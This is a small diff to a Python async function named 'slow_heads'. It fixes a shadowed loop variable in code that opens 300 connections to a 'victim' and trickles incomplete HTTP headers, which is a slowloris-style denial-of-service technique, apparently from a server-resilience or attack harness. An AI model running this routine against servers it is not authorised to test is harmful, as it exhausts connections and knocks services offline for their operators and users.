@@ -52,10 +52,10 @@ async def idle(victim: Victim) -> Found:
 async def slow_heads(victim: Victim) -> Found:
     """A header a moment, never the last."""
     opened = await _open(victim, 300)
-    for _ in range(30):
+    for beat in range(30):
         for _, writer in opened:
             with contextlib.suppress(OSError):
-                writer.write(b"GET / HTTP/1.1\r\n" if _ == 0 else b"x-a: b\r\n")
+                writer.write(b"GET / HTTP/1.1\r\n" if beat == 0 else b"x-a: b\r\n")
         await asyncio.sleep(_HOLD_SECONDS / 30)
     _abort(opened)
     return [], {"connections": len(opened)}
